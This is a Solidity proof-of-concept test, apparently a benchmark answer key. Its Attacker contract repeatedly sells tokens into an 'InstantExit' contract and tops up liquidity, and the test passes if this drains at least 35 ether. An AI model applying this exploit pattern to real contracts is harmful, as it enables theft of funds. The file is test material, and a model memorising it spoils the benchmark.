// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    function run(StakeToken token, InstantExit exit) external {
        token.approve(address(exit), type(uint256).max);
        for (uint256 i = 0; i < 3; i++) {
            try exit.sell(15 ether, 0) {} catch {
                break;
            }
            exit.addLiquidity{value: 0.001 ether}();
        }
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        token.transfer(address(other), 45 ether);
    }

    function exploit() public {
        other.run(token, exit);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 35 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(exit);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
